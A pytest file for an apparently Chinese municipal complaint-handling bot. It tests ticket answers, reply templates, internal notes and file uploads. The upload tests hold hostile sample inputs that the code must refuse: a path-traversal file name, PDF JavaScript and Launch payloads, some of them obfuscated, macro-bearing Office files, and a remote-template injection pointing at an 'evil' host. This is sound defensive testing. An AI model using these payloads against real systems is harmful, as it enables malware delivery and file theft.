"""What departments write: the answer with its form, templates, discussion, files."""

import io
import zipfile
import zlib

import pytest
from PIL import Image
from sqlalchemy import select

from bot.domain.access import Actor, Role
from bot.domain.disposal import Form
from bot.errors import BadFields, BadInput, Conflict, NotAllowed, NotFound
from bot.services import answer_templates, assignments, disposals, files, papers, part_moves, ratings, ticket_notes
from bot.services.files import path_of
from bot.storage import Attachment, Change, Disposal, Message, Ticket, reading, transaction
from tests.services.conftest import HANDLER, OTHER_HANDLER, He, ticket_of

DESK = Actor("account:80", "小林", Role.OPERATOR, "", 80)
STRANGER = Actor("account:95", "交通小孙", Role.HANDLER, "transport", 95)
FORM = Form("yes", False, None, "yes", "", "到场更换", "井盖已更换，请放心通行。")


def does(service, *args: object, **more: object):  # type: ignore[no-untyped-def]
    with transaction() as session:
        return service(session, *args, **more)


@pytest.fixture
def taken(he: He) -> str:
    number = he.files_a_ticket()
    does(assignments.accept, number, HANDLER)
    return number


def picture() -> bytes:
    content = io.BytesIO()
    image = Image.new("RGB", (8, 8), (200, 180, 90))
    exif = Image.Exif()
    exif[0x010F] = "Camera of 陈"
    image.save(content, "JPEG", exif=exif)
    return content.getvalue()


def office(*names: str, **more: str) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for name, words in (dict.fromkeys(names, "x") | more).items():
            archive.writestr(name, words)
    return content.getvalue()


DOCX = office("[Content_Types].xml", "word/document.xml")
PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF"


def test_the_lead_s_form_is_kept_and_its_public_words_told(taken: str, he: He) -> None:
    does(disposals.answer, taken, HANDLER, FORM)
    ticket = ticket_of(he)
    assert (ticket.state, ticket.outcome, ticket.answer) == ("answered", "solved", FORM.answer)
    with reading() as session:
        kept = session.scalars(select(Disposal)).one()
        assert (kept.upheld, kept.resolved, kept.account, kept.public_answer) == ("yes", "yes", "到场更换", FORM.answer)
        told = session.scalars(select(Message.text).where(Message.conversation_id == he.id)).all()
    assert any(FORM.answer in words for words in told) and not any("到场更换" in words for words in told)


def test_not_solved_is_never_called_solved(taken: str, he: He) -> None:
    does(disposals.answer, taken, HANDLER, Form("yes", False, None, "no", "配件要等两周", "电话打不通", "配件到货后马上更换。"))
    assert ticket_of(he).outcome == "explained"


def test_a_bad_form_changes_nothing(taken: str, he: He) -> None:
    with pytest.raises(BadFields):
        does(disposals.answer, taken, HANDLER, Form(answer="好"))
    with pytest.raises(NotFound):
        does(disposals.answer, taken, STRANGER, FORM)
    assert ticket_of(he).state == "accepted"
    with reading() as session:
        assert session.scalars(select(Disposal)).all() == []


def test_a_co_handler_s_short_form_goes_to_the_lead(taken: str, he: He) -> None:
    does(part_moves.add_part, taken, DESK, "public-security", "要到场")
    does(disposals.answer, taken, OTHER_HANDLER, Form(resolved="yes", account="已到场疏导"))
    assert ticket_of(he).state == "accepted"
    with reading() as session:
        assert session.scalars(select(Disposal.account)).all() == ["已到场疏导"]
    with pytest.raises(Conflict):
        does(disposals.answer, taken, OTHER_HANDLER, Form(resolved="yes", account="又一次"))


def test_a_co_handler_s_form_is_checked_and_only_its_own_fields_kept(taken: str, he: He) -> None:
    does(part_moves.add_part, taken, DESK, "public-security", "要到场")
    for bad in (Form(account="已到场"), Form(resolved="yes"), Form(resolved="x" * 500, account="已到场")):
        with pytest.raises(BadFields):
            does(disposals.answer, taken, OTHER_HANDLER, bad)
    does(disposals.answer, taken, OTHER_HANDLER,
         Form("u" * 500, True, None, "no", "r", "已到场疏导，还要再来", "不是给市民的"))
    with reading() as session:
        kept = session.scalars(select(Disposal)).one()
        assert (kept.upheld, kept.out_of_remit, kept.resolved, kept.unresolved_reason) == ("", False, "no", "")
        assert kept.public_answer == "已到场疏导，还要再来"


def test_out_of_remit_tells_the_citizen_whose_it_is(taken: str, he: He) -> None:
    form = Form("yes", True, None, "", "江北区综合行政执法局，电话 12345 转", "电话打不通", "这条路在江北区，我们不能去修。")
    does(disposals.answer, taken, HANDLER, form)
    assert ticket_of(he).outcome == "out_of_remit"
    assert "这件事归谁管：江北区综合行政执法局，电话 12345 转" in he.last().text and form.answer in he.last().text


def test_whose_it_is_is_not_said_twice(taken: str, he: He) -> None:
    form = Form("yes", True, None, "", "江北区", "电话打不通", "这条路归江北区，请拨打江北区的热线。")
    does(disposals.answer, taken, HANDLER, form)
    assert ticket_of(he).answer == form.answer


def test_earlier_answers_are_those_that_solved_it_without_names(taken: str, he: He) -> None:
    does(disposals.answer, taken, HANDLER, FORM)
    he.does(ratings.rate, "5分", "rate")
    other = He()
    with reading() as session:
        before = session.scalars(select(Ticket)).one()
        assert before.solved is True
    number = other.files_a_ticket("恒春街北头井盖松了")
    with reading() as session:
        ticket = session.scalars(select(Ticket).where(Ticket.number == number)).one()
        assert disposals.earlier(session, ticket) == [FORM.answer]
    with transaction() as session:
        session.scalars(select(Ticket).where(Ticket.number == taken)).one().answer = "已与陈女士 13812345678 核实。"
    with reading() as session:
        assert disposals.earlier(session, session.merge(ticket, load=False)) == []


@pytest.mark.parametrize("change", [{"solved": False}, {"confidential": True}, {"item": "streetlight-out"}])
def test_no_other_answers_are_offered(taken: str, he: He, change: dict[str, object]) -> None:
    does(disposals.answer, taken, HANDLER, FORM)
    with transaction() as session:
        before = session.scalars(select(Ticket)).one()
        before.solved = True
        for name, value in change.items():
            setattr(before, name, value)
    other = He()
    other.files_a_ticket("恒春街北头井盖松了")
    with reading() as session:
        assert disposals.earlier(session, ticket_of(other)) == []


def test_templates_are_a_department_s_own(taken: str, he: He) -> None:
    general = does(answer_templates.save, HANDLER, "通用", "您反映的{place}的{item}（{number}）已由{department}处理，{unknown}。")
    own = does(answer_templates.save, HANDLER, "井盖", "井盖已于{today}更换。", "manhole-missing")
    does(answer_templates.save, HANDLER, "路灯", "路灯已修。", "streetlight-out")
    does(answer_templates.save, OTHER_HANDLER, "公安", "已出警。")
    with reading() as session:
        ticket = ticket_of(he)
        fitting = answer_templates.of(session, ticket, HANDLER)
        assert [t.title for t in fitting] == ["井盖", "通用"]
        words = answer_templates.filled(fitting[1], ticket)
    assert taken in words and "区综合行政执法局" in words and "{unknown}" in words and "恒春街" in words
    with pytest.raises(NotFound):
        does(answer_templates.save, OTHER_HANDLER, "改", "改了。", "", own.id)
    does(answer_templates.save, HANDLER, "井盖二", "井盖已换。", "manhole-missing", own.id)
    does(answer_templates.remove, HANDLER, general.id)
    with reading() as session:
        assert [t.title for t in answer_templates.of(session, ticket, HANDLER)] == ["井盖二"]
    for bad in (("", "词"), ("名", ""), ("名", "内容", "nothing")):
        with pytest.raises(BadInput):
            does(answer_templates.save, HANDLER, *bad)
    with pytest.raises(NotAllowed):
        does(answer_templates.save, DESK, "名", "内容")


def test_the_discussion_is_for_those_with_a_part_and_never_for_the_citizen(taken: str, he: He) -> None:
    does(ticket_notes.add, taken, HANDLER, "请公安一起去")
    does(ticket_notes.add, taken, DESK, "已联系派出所")
    with pytest.raises(NotFound):
        does(ticket_notes.add, taken, OTHER_HANDLER, "还没有我")
    with pytest.raises(BadInput):
        does(ticket_notes.add, taken, HANDLER, " ")
    with reading() as session:
        assert [n.text for n in ticket_notes.of_ticket(session, ticket_of(he))] == ["请公安一起去", "已联系派出所"]
        assert not any("派出所" in m for m in session.scalars(select(Message.text)))


def test_what_colleagues_said_is_news_until_one_has_done_something(taken: str, he: He) -> None:
    does(part_moves.add_part, taken, DESK, "public-security", "要到场")
    id_ = ticket_of(he).id

    def unread(actor: Actor) -> bool:
        with reading() as session:
            return ticket_notes.unread(session, actor, [id_]) == {id_}

    assert not any(unread(actor) for actor in (HANDLER, OTHER_HANDLER, DESK))
    does(ticket_notes.add, taken, HANDLER, "请公安一起去")
    assert [unread(actor) for actor in (HANDLER, OTHER_HANDLER, DESK)] == [False, True, True]
    does(ticket_notes.add, taken, OTHER_HANDLER, "明早八点")
    assert [unread(actor) for actor in (HANDLER, OTHER_HANDLER, DESK)] == [True, False, True]
    does(disposals.answer, taken, HANDLER, FORM, True)
    assert [unread(actor) for actor in (HANDLER, OTHER_HANDLER, DESK)] == [False, False, True]


def test_files_are_told_by_content_and_pictures_lose_where_they_were_taken(taken: str) -> None:
    photo = does(papers.add, taken, HANDLER, "现场.txt", picture(), False)
    paper = does(papers.add, taken, HANDLER, "../../etc/passwd", PDF, True)
    sheet = does(papers.add, taken, HANDLER, "", DOCX, True)
    assert (photo.media_type, paper.media_type) == ("image/jpeg", "application/pdf")
    assert sheet.media_type.endswith("wordprocessingml.document") and sheet.name.endswith(".docx")
    assert "/" not in paper.name
    with reading() as session:
        content = path_of(session.get_one(Attachment, photo.id)).read_bytes()
    assert b"Camera" not in content


@pytest.mark.parametrize("content", [
    b"", b"MZ\x90\x00 a program", b"<html><script>alert(1)</script></html>", b"%PDF-1.4 /JavaScript (app.alert(1))",
    b"%PDF-1.4 << /S /Launch >>", office("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"),
    office("[Content_Types].xml", "xl/workbook.xml", "xl/embeddings/oleObject1.bin"), office("anything.txt"),
    b"PK\x03\x04 no archive", b"GIF89a", b"%PDF-1.4 << /S /J#61vaScript /J#53 (app.alert(1)) >>",
    b"%PDF-1.5 1 0 obj << /Type /ObjStm /N 1 >>\nstream\n" + zlib.compress(b"<< /S /JavaScript >>") + b"\nendstream",
    office("[Content_Types].xml", "word/document.xml", **{"word/_rels/settings.xml.rels": '<Relationship Id="r1" '
           'Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>'}),
])
def test_what_is_dangerous_or_unknown_is_refused(taken: str, content: bytes) -> None:
    with pytest.raises(BadInput):
        does(papers.add, taken, HANDLER, "a.docx", content, True)


def test_what_phones_cannot_open_does_not_go_to_citizens_and_ten_are_enough(taken: str) -> None:
    with pytest.raises(BadInput):
        does(papers.add, taken, HANDLER, "a.docx", DOCX, False)
    for _ in range(papers.MOST):
        does(papers.add, taken, HANDLER, "a.pdf", PDF, True)
    with pytest.raises(BadInput):
        does(papers.add, taken, HANDLER, "a.pdf", PDF, True)
    with pytest.raises(NotFound):
        does(papers.add, taken, STRANGER, "a.pdf", PDF, True)


def test_a_pdf_goes_along_with_the_answer_to_all_who_reported(taken: str, he: He) -> None:
    other = He()
    number = other.files_a_ticket()
    with transaction() as session:
        session.scalars(select(Ticket).where(Ticket.number == number)).one().merged_into = ticket_of(he).id
    does(papers.add, taken, HANDLER, "补贴办理指南.pdf", PDF, False)
    does(disposals.answer, taken, HANDLER, FORM)
    with reading() as session:
        sent = session.scalars(select(Message).where(Message.kind == "document").order_by(Message.id)).all()
        assert [m.conversation_id for m in sent] == [he.id, other.id]
        for message in sent:
            kept = files.find(session, message.conversation_id, message.payload["attachment"])
            assert (kept.name, path_of(kept).read_bytes()) == ("补贴办理指南.pdf", PDF)
            assert (message.payload["name"], message.payload["size"]) == ("补贴办理指南.pdf", len(PDF))
            assert "承办单位发来的文件" in message.text


def test_a_link_in_a_paper_is_no_danger(taken: str) -> None:
    link = '<Relationship Id="r1" Type="http://x/hyperlink" Target="http://nbhs.gov.cn" TargetMode="External"/>'
    content = office("[Content_Types].xml", "word/document.xml", **{"word/_rels/document.xml.rels": link})
    assert does(papers.add, taken, HANDLER, "a.docx", content, True).internal


def test_one_s_own_file_is_removed_until_the_ticket_goes_on(taken: str, he: He) -> None:
    photo = does(papers.add, taken, HANDLER, "现场.jpg", picture(), False)
    inside = does(papers.add, taken, HANDLER, "内部.pdf", PDF, True)
    draft = does(papers.add, taken, HANDLER, "草稿.pdf", PDF, True)
    does(papers.remove, taken, HANDLER, draft.key)
    with pytest.raises(NotFound):
        does(papers.remove, taken, DESK, photo.key)
    does(disposals.answer, taken, HANDLER, FORM)
    for kept in (photo, inside):
        with pytest.raises(Conflict):
            does(papers.remove, taken, HANDLER, kept.key)
    with reading() as session:
        ticket = ticket_of(he)
        assert [a.key for a in papers.of_ticket(session, ticket)] == [photo.key, inside.key]
        kinds = session.scalars(select(Message.kind).where(Message.conversation_id == he.id)).all()
    assert kinds.count("photo") == 1, "the picture went along with the answer, the internal paper did not"


def test_a_picture_that_comes_after_the_answer_is_sent_at_once_and_stays(taken: str, he: He) -> None:
    does(disposals.answer, taken, HANDLER, FORM)
    later = does(papers.add, taken, HANDLER, "完工.jpg", picture(), False)
    does(papers.add, taken, HANDLER, "内部.jpg", picture(), True)
    assert [m.payload["attachment"] for m in he.heard() if m.kind == "photo"] == [later.key]
    with pytest.raises(Conflict):
        does(papers.remove, taken, HANDLER, later.key)


def test_a_contact_on_paper_needs_a_reason_which_is_kept(taken: str, he: He) -> None:
    with pytest.raises(BadInput):
        does(disposals.contact_for_print, taken, HANDLER, " ")
    assert does(disposals.contact_for_print, taken, HANDLER, "上门时要用").contact_phone
    with reading() as session:
        looks = select(Change.actor, Change.why).where(Change.what == "looked_at_contact")
        assert session.execute(looks).all() == [(HANDLER.id, "上门时要用")]
    with transaction() as session:
        session.merge(ticket_of(he)).confidential = True
    with pytest.raises(NotAllowed):
        does(disposals.contact_for_print, taken, HANDLER, "上门时要用")
